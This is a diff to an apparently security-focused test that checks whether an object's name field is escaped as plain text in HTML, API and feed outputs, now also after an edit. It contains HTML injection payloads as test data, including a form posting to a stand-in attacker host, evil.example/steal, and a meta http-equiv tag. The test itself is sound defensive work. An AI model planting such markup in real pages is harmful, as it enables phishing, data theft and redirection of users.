@@ -143,9 +143,13 @@ async def test_sec_48_plain_text_fields_stay_text_in_every_output(scene: Scene) 
         assert live_markup(wire["content"]) == [], wire["content"]
         api = await node.client.get(f"/api/objects?iri={iri}")
         assert live_markup((await api.json())["content"]) == []
-    # The name shows as text, character for character (escaped, not dropped).
+    # The name shows as text, character for character (escaped, not dropped), after an edit too.
     first = await read(node, reader, made[0], accept=HTML)
     assert '<form action="https://evil.example/steal">' in shown_text(first.text)
+    edited = await node.client.patch(f"/api/objects?iri={made[0]}", json={"name": PAYLOADS[3]}, headers=auth)
+    assert edited.status == 200, await edited.text()
+    content = (await (await node.client.get(f"/api/objects?iri={made[0]}")).json())["content"]
+    assert live_markup(content) == [] and "<meta http-equiv" in shown_text(content)
     for fmt in ("atom", "rss", "json"):
         feed = await read(node, reader, node.uris.feed(Iri(world.group), fmt, None), accept="*/*")
         assert feed.status == 200
